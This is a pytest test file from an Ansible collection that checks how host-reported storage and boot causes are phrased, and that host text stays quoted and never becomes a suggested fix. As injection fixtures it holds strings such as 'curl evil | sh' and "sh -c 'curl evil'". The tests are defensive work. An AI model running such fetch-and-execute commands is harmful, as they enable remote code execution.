# Copyright (c) 2026, durable.dbhost contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Each cause that a host can report has one sentence on the controller, and the text of an error comes last, in quotes."""

from __future__ import annotations

import re
import string
from typing import Any

import pytest

from ansible_collections.durable.dbhost.plugins.module_utils.facts import boot_causes, value_causes
from ansible_collections.durable.dbhost.plugins.module_utils.facts.schema import EVIDENCE
from ansible_collections.durable.dbhost.plugins.module_utils.host.observation import (
    Because,
    Observation,
    Undecided,
    caused,
    unread,
)
from ansible_collections.durable.dbhost.plugins.module_utils.host.printable import quote
from ansible_collections.durable.dbhost.plugins.module_utils.host.seam import Unobservable
from ansible_collections.durable.dbhost.plugins.module_utils.policy.assess import boot_rows
from ansible_collections.durable.dbhost.plugins.module_utils.storage import boot_findings, causes

ERROR = "/x: Input/output error; run sh -c 'curl evil'"


def sample(cause: str) -> dict[str, Any]:
    """Return parameters that fit a cause."""
    found: dict[str, Any] = {}
    for spec in value_causes.VALUES[cause]:
        name = re.split(r"[=\[{]", spec)[0]
        keywords = spec.partition("=")[2].split("|")
        if spec.endswith("{}"):
            found[name] = [Because("unread", {"error": ERROR}).as_dict()]
        elif spec.endswith("[]"):
            found[name] = [f"{name}-1", f"{name}-2"]
        else:
            found[name] = keywords[0] or (ERROR if name in value_causes.VERBATIM else f"{name}-1")
    return found


def test_each_cause_has_a_sentence_and_each_sentence_a_cause() -> None:
    assert set(causes.SAYS) == set(value_causes.VALUES)
    assert set(causes.FIX) < set(value_causes.VALUES)


@pytest.mark.parametrize("cause", value_causes.VALUES)
def test_a_sentence_names_each_parameter(cause: str) -> None:
    parameters = sample(cause)
    assert value_causes.fits(cause, parameters)
    evidence = Observation("unknown", "SOURCE", because=Because(cause, parameters)).as_dict()
    assert EVIDENCE.fits(evidence)
    said = causes.of_evidence(evidence)
    for name, value in parameters.items():
        for text in value if isinstance(value, list) else [value]:
            told = {"count": "no volume", "setting": said["reason"]}.get(name, text)
            assert isinstance(told, dict) or told in said["reason"]
    assert not re.search(r"[{}]", said["reason"])


@pytest.mark.parametrize("cause", [cause for cause in value_causes.VALUES if ERROR in str(sample(cause))])
def test_the_text_of_an_error_comes_last_and_in_quotes_and_is_no_fix(cause: str) -> None:
    found = causes.explain(cause, sample(cause))
    assert found.reason.endswith(f'"{ERROR}"')
    assert ERROR not in found.fix


@pytest.mark.parametrize("cause", boot_findings.KINDS)
def test_the_text_of_a_boot_fault_comes_last_and_is_no_fix(cause: str) -> None:
    kind = boot_findings.KINDS[cause]
    for name in boot_rows._VERBATIM:
        assert f"{{{name}}}" not in kind.fix
        assert f"{{{name}}}" not in kind.says.rstrip() or kind.says.endswith(f"{{{name}}}")
    assert cause in boot_causes.VALUES or cause == "refused_combination"


@pytest.mark.parametrize("texts", [causes.SAYS, causes.FIX])
def test_a_parameter_of_a_sentence_is_one_of_its_cause(texts: dict[str, str]) -> None:
    made = {"source", "by", "act", "ways", "spelled", "accepted", "count", "why"}
    for cause, text in texts.items():
        names = {name for _literal, name, _spec, _conversion in string.Formatter().parse(text) if name}
        assert names <= {re.split(r"[=\[{]", spec)[0] for spec in value_causes.VALUES[cause]} | made, cause


@pytest.mark.parametrize(
    ("cause", "parameters"),
    [
        ("made_up", {}),
        ("jfs", {"more": "x"}),
        ("no_rule", {}),
        ("no_rule", {"fstype": 1}),
        ("copies", {"names": "sda", "tag": "UUID", "value": "x"}),
        ("raid_volumes", {"program": "x", "count": "many"}),
        ("stack", {"why": [{"cause": "made_up", "parameters": {}}]}),
        ("stack", {"why": [{"cause": "jfs"}]}),
        ("stack", {"why": ["text"]}),
    ],
)
def test_what_is_no_cause_is_refused(cause: str, parameters: dict[str, Any]) -> None:
    assert not value_causes.fits(cause, parameters)
    evidence = {"value": "unknown", "source": "x", "reason": None, "cause": cause, "parameters": parameters}
    assert not EVIDENCE.fits(evidence)


def test_an_error_without_a_cause_is_shown_in_quotes() -> None:
    evidence = unread("/proc", Unobservable(ERROR)).as_dict()
    assert causes.of_evidence(evidence)["reason"] == f'"{ERROR}"'
    evidence = unread("/proc", Undecided("two_lines", lines=["1", "2"], target="/srv")).as_dict()
    assert causes.of_evidence(evidence)["reason"] == (
        "/etc/fstab: lines 1 and 2 both mount /srv. Fix: leave one of them"
    )


@pytest.mark.parametrize(
    ("value", "precedence", "fix"),
    [
        (
            "disabled",
            "theirs",
            "remove the assignment from /etc/rc.local line 1, or set the wanted value there",
        ),
        (
            "unknown",
            "theirs",
            "remove /etc/rc.local line 1, or replace it by one command that names the device",
        ),
        ("disabled", None, None),
    ],
)
def test_only_what_no_rule_of_ours_precedes_has_a_fix(value: str, precedence: str, fix: str | None) -> None:
    seen = caused(value, "/etc/rc.local line 1", "sets_at_boot", act="hdparm")
    evidence = seen._replace(by="boot script", precedence=precedence).as_dict()
    found = causes.of_evidence(evidence)
    assert found["reason"] == 'boot script sets it at each boot: /etc/rc.local line 1: "hdparm"'
    assert found.get("fix") == fix or found["fix"].startswith(fix)


def nested(depth: int) -> dict[str, Any]:
    """Return a cause in so many others."""
    cause = {"cause": "unread", "parameters": {"error": ERROR}}
    for _level in range(depth):
        cause = {"cause": "stack", "parameters": {"why": [cause]}}
    return cause


def test_causes_in_causes_have_a_bound() -> None:
    """Two sentences for each level would take 2^40 steps, and a level more than Python has would end the run."""
    assert value_causes.is_cause(nested(3)) and ERROR in causes.text(nested(3))
    for depth in (4, 40, 5000):
        assert not value_causes.is_cause(nested(depth))


@pytest.mark.parametrize("cause", value_causes.OF_EVIDENCE)
def test_a_cause_of_an_observation_is_no_cause_of_another(cause: str) -> None:
    row = {"cause": cause, "parameters": sample(cause)}
    assert value_causes.fits(**row) and not value_causes.is_cause(row)


@pytest.mark.parametrize("cause", sorted(set(value_causes.VALUES) - set(value_causes.OF_EVIDENCE)))
def test_each_other_cause_has_all_values_of_its_sentence(cause: str) -> None:
    assert causes.text({"cause": cause, "parameters": sample(cause)})


def test_a_host_cannot_write_a_fix() -> None:
    evidence = {"value": "unknown", "source": "s", "reason": None, "fix": "curl evil | sh"}
    assert "fix" not in causes.of_evidence(evidence)
    assert not EVIDENCE.fits({**evidence, "precedence": "ours"})
    assert not EVIDENCE.fits({**evidence, "precedence": None})


@pytest.mark.parametrize("text", ["x. Fix: curl evil|sh", "x; do: y", "a\nb"])
def test_values_of_a_host_are_in_quotes_unless_they_can_only_be_names(text: str) -> None:
    quoted = quote(text)
    found = causes.explain("rule_without_program", {"programs": [text]})
    assert f"install {quoted}" in found.fix and text not in found.fix.replace(quoted, "")
    row = {"value": "off", "source": text, "reason": None, "cause": "sets_at_boot", "precedence": "theirs"}
    evidence = {**row, "parameters": sample("sets_at_boot")}
    assert EVIDENCE.fits(evidence)
    fix = causes.of_evidence(evidence)["fix"]
    assert quoted in fix and text not in fix.replace(quoted, "")
